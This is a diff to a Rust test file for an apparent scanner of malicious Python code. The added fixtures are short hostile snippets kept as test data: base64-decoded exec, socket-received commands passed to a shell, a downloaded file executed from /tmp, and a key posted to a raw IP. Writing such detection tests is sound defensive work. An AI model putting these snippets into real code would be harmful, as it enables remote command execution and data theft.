@@ -315,6 +315,11 @@ fn sinks_are_names_that_act() {
         "asyncio.create_subprocess_shell(c)",
         "import pip\npip.main(['install', 'x'])",
         "s = socket.socket()",
+        "PAYLOAD = 'import base64\\nexec(base64.b64decode(P))'",
+        "import os as platform\nplatform.system('id')",
+        "code = compile(src, 'f', 'single')",
+        "import http as h",
+        "from  http import client",
     ] {
         assert!(has_sink(src.as_bytes()), "{src}");
     }
@@ -343,9 +348,22 @@ fn data_sent_to_a_raw_public_ip() {
     assert!(hit(code), "{:?}", module(code));
     let code = "import requests\ndef send_post(url, data):\n    return requests.post(url, json=data)\ndef g(x):\n    send_post('http://5.6.7.8:3000/n', {'f': x})\n";
     assert!(hit(code), "{:?}", module(code));
-    // Reading from an address, private and documentation addresses, host names, and objects
-    // that are not network clients.
+    // The method as an argument, an address put together from pieces, odd spellings.
     for code in [
+        "import requests\nrequests.request('POST', 'http://5.6.7.8/c', data=x)\n",
+        "import requests\nIP = '5.6.7.8'\nrequests.post('http://' + IP + ':8000/c', data=x)\n",
+        "import requests\nIP = '5.6.7.8'\nrequests.put(f'http://{IP}/c', data=x)\n",
+        "import requests\nrequests.post('HTTP://5.6.7.8./c', data=x)\n",
+        "import requests\nrequests.post('http://010.0.0.1/c', data=x)\n",
+    ] {
+        assert!(hit(code), "{code}: {:?}", module(code));
+    }
+    // Reading from an address, private and documentation addresses, public DNS resolvers,
+    // host names, look-alike keywords and methods, and objects that are not network clients.
+    for code in [
+        "import requests\nrequests.post('https://1.1.1.1/dns-query', data=q)\n",
+        "import requests\nrequests.get('http://5.6.7.8/x', metadata=m)\n",
+        "import requests\ndef postprocess(u):\n    return requests.get(u)\npostprocess('http://5.6.7.8/x')\n",
         "import requests\nrequests.get('http://5.6.7.8/status')\n",
         "import requests\nrequests.post('http://192.168.1.1/api', json={})\n",
         "import requests\nrequests.post('http://203.0.113.5/api', json={})\n",
@@ -375,4 +393,21 @@ fn requests_to_out_of_band_services() {
     ] {
         assert!(!hit(code), "{code}: {:?}", module(code));
     }
+}
+
+#[test]
+fn trees_too_large_to_flatten_are_walked_the_same() {
+    let fixtures = [
+        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
+        "import socket, subprocess\ns = socket.socket()\ncmd = s.recv(1024)\nsubprocess.Popen(cmd, shell=True)\n",
+        "import requests, os\nr = requests.get('https://example.invalid/x')\nopen('/tmp/x', 'wb').write(r.content)\nos.system('/tmp/x')\n",
+        "import requests\nURL = 'http://5.6.7.8:8000/api'\ndef f(key):\n    requests.post(URL, json={'k': key})\n",
+        "class A:\n    def f(self):\n        import os\n        if x:\n            os.system('id')\n",
+    ];
+    let flat: Vec<Vec<String>> = fixtures.iter().map(|c| module(c)).collect();
+    FLAT_LIMIT.with(|l| l.set(0));
+    let cursor: Vec<Vec<String>> = fixtures.iter().map(|c| module(c)).collect();
+    FLAT_LIMIT.with(|l| l.set(MAX_FLAT_NODES));
+    assert_eq!(flat, cursor);
+    assert!(flat.iter().take(4).all(|r| !r.is_empty()), "{flat:?}");
 }
